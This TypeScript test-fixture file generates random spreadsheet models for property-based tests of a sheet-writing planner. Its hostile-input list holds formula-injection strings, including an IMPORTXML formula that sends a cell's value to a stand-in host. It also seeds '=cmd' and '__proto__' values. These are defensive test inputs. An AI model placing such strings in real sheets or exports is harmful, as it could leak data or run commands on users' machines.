import fc from "fast-check";
import type { Area } from "../../core/host.ts";
import type { Cell } from "../../core/plan/cells.ts";
import {
  type Block,
  type Column,
  type Content,
  formula,
  type Grid,
  type SheetModel,
  sameRow,
} from "../../core/sheets/model.ts";
import type { Written } from "../../core/sheets/ops.ts";
import { type MemoryBook, memoryBook } from "../support/memory-host.ts";

export const FULL = process.env.HEADROOM_SWEEP === "full";
export const SEED = Number(process.env.HEADROOM_SEED ?? 1);

const HOSTILE = [
  "=1+1",
  '=IMPORTXML("http://x.test/"&A1)',
  "+A1",
  "-5",
  "@x",
  "\t=1",
  "\r=1",
  "'=1",
  "＝1",
  "__proto__",
  "8",
  "é😀",
];
const cell: fc.Arbitrary<Cell> = fc.oneof(
  fc.string({ maxLength: 6 }),
  fc.constantFrom(...HOSTILE),
  fc.integer({ min: -99, max: 9999 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => (Object.is(n, -0) ? 0 : n)),
  fc.boolean(),
  fc.constant(null),
);

const note = (key: string): fc.Arbitrary<Block> =>
  fc
    .array(fc.record({ text: fc.constantFrom("As of today.", "=not a formula", "3 problems"), link: fc.boolean() }), {
      minLength: 1,
      maxLength: 3,
    })
    .map((lines) => ({
      kind: "note",
      key,
      lines: lines.map(({ text, link }) => (link ? { text, goTo: { sheet: "People", a1: "A2" } } : { text })),
    }));

const grid = (key: string): fc.Arbitrary<Grid> =>
  fc
    .record({ width: fc.integer({ min: 1, max: 3 }), total: fc.boolean(), rule: fc.boolean(), chart: fc.boolean() })
    .chain(({ width, total, rule, chart }) => {
      const columns: Column[] = [
        { key: "label", heading: "=Label", shows: "text" },
        ...Array.from(
          { length: width },
          (_, i): Column => ({
            key: `c${i}`,
            heading: `Hours ${i}`,
            shows: "hours",
            ...(total ? { total: true } : {}),
          }),
        ),
        { key: "sum", heading: "Twice", shows: "count" },
      ];
      const row = fc
        .tuple(cell, ...Array.from({ length: width }, () => cell))
        .map((cells): Content[] => [...cells, formula`${sameRow("c0")}+${sameRow("c0")}`]);
      return fc.array(row, { maxLength: 4 }).map(
        (rows): Grid => ({
          kind: "grid",
          key,
          title: `Title of ${key}`,
          fingerprint: "0123456789abcdef",
          columns,
          rows,
          rules: rule ? [{ columns: ["c0", "sum"], when: { is: "below", value: 0 }, look: "short" }] : [],
          charts: chart
            ? [{ key: "chart", kind: "columns", title: "Chart", about: "Hours", categories: "label", series: ["c0"] }]
            : [],
        }),
      );
    });

/** Where the tests let each block stand: far enough apart for any of them to grow. */
export const CORNERS = [
  { row: 2, column: 1 },
  { row: 14, column: 0 },
  { row: 26, column: 2 },
] as const;

const KEYS = ["about", "weeks", "people"];

/** A sheet of up to three blocks, and the same sheet with other contents. */
export const twoModels: fc.Arbitrary<readonly [SheetModel, SheetModel]> = fc
  .tuple(fc.integer({ min: 1, max: 3 }), fc.boolean())
  .chain(([count, withNote]) => {
    const blocks = KEYS.slice(0, count).map((key, i) => (i === 0 && withNote ? note(key) : grid(key)));
    const model = fc.tuple(...blocks).map((made): SheetModel => ({ name: "It's ours", blocks: made }));
    return fc.tuple(model, model);
  });

/** A workbook with an input sheet, and empty named corners for a sheet's blocks with the planner's notes around. */
export function workbookFor(model: SheetModel): MemoryBook {
  const book = memoryBook({
    People: [["Person"], ["=cmd"], ["__proto__"]],
    [model.name]: [["mine", null, null, null, null, null, null, null, null, "mine too"]],
  });
  model.blocks.forEach(({ key }, i) => {
    const { row, column } = CORNERS[i]!;
    const at: Area = { row, column, rows: 1, columns: 1 };
    book.names.set(`Headroom_It_s_ours_${key}`, { sheet: model.name, at });
    book.sheets.get(model.name)!.cells.set(`${row + 1},12`, "beside, =SUM(A1)");
    book.sheets.get(model.name)!.cells.set(`${row + 2},12`, { formula: "=SUM(B2:B9)" } satisfies Written);
  });
  return book;
}
